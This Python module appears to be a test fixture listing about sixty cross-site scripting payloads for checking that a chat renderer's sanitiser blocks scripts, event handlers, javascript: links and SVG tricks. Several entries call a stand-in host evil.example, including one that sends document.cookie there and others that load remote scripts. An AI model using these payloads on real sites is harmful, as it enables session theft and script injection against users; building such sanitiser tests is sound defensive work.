"""A corpus of hostile post content (markup, script and link tricks) for safety tests.

The crowd posts these as chat answers; the recap's tests render them and check
that nothing executes, no ``javascript:`` link survives and no attribute leaks
out of its element.  Keep every entry distinct and self-contained.
"""

from __future__ import annotations

HOSTILE_PAYLOADS: tuple[str, ...] = (
    # script elements in their many spellings
    "<script>alert(1)</script>",
    "<SCRIPT>alert('x')</SCRIPT>",
    "<script src=https://evil.example/x.js></script>",
    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<script type=module>import('https://evil.example/m.js')</script>",
    "</title><script>alert(3)</script>",
    "</textarea><script>alert(4)</script>",
    "</style><script>alert(5)</script>",
    '"><script>alert(6)</script>',
    "'><script>alert(7)</script>",
    "<!--<script>alert(8)</script>-->",
    "<![CDATA[<script>alert(9)</script>]]>",
    # event-handler attributes
    "<img src=x onerror=alert(10)>",
    '<img src="x" onerror="alert(11)">',
    "<IMG SRC=x OnErRoR=alert(12)>",
    "<body onload=alert(13)>",
    "<div onmouseover=alert(14)>hover me</div>",
    "<input autofocus onfocus=alert(15)>",
    "<details open ontoggle=alert(16)>",
    "<video><source onerror=alert(17)></video>",
    "<audio src=x onerror=alert(18)>",
    "<marquee onstart=alert(19)>hi</marquee>",
    '<a href="#" onclick="alert(20)">click</a>',
    '<p style="x:expression(alert(21))">old ie</p>',
    '<span title="a" onpointerenter="alert(22)">x</span>',
    # javascript:, data: and vbscript: links
    '<a href="javascript:alert(23)">my portfolio</a>',
    "<a href=JaVaScRiPt:alert(24)>x</a>",
    '<a href="  javascript:alert(25)">spaced</a>',
    '<a href="java&#x09;script:alert(26)">tab</a>',
    '<a href="&#106;avascript:alert(27)">entity</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgyOCk8L3NjcmlwdD4=">data</a>',
    '<a href="vbscript:msgbox(29)">vb</a>',
    "javascript:alert(30)//https://example.com",
    "[click here](javascript:alert(31))",
    '<form action="javascript:alert(32)"><button>go</button></form>',
    # SVG and MathML tricks
    "<svg onload=alert(33)>",
    "<svg><script>alert(34)</script></svg>",
    '<svg><a xlink:href="javascript:alert(35)"><text y="20">svg link</text></a></svg>',
    "<svg><animate onbegin=alert(36) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(37)"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(38)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(39)>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(40)>#x"/></svg>',
    # frames, objects, meta, base, styles
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(41)</script>"></iframe>',
    '<object data="javascript:alert(42)"></object>',
    '<embed src="javascript:alert(43)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(44)">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>body{background:url(javascript:alert(45))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background-image:url(&quot;javascript:alert(46)&quot;)">bg</div>',
    # template and attribute-breaking tricks
    '" onmouseover="alert(47)',
    "' autofocus onfocus='alert(48)",
    "{{constructor.constructor('alert(49)')()}}",
    "${alert(50)}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    '<noscript><p title="</noscript><img src=x onerror=alert(51)>">',
    '<a href="https://example.com" target=_blank rel=opener>tabnab</a>',
    "<button formaction=javascript:alert(52)>b</button>",
    "<isindex action=javascript:alert(53) type=image>",
    '<table background="javascript:alert(54)">',
    "&lt;script&gt;alert(55)&lt;/script&gt;",
    "<x onclick=alert(56)>custom element</x>",
    "\u202e<script>alert(57)</script>",
)

__all__ = ["HOSTILE_PAYLOADS"]
